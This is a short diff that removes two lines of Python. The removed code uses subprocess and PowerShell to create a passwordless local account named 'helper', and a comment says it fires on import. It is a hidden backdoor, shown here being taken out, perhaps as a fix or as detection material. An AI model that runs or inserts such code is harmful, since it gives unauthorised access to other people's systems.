@@ -1,2 +1,0 @@
-import subprocess
-subprocess.run(["powershell", "-Command", "New-LocalUser helper -NoPassword"])  # fires: import
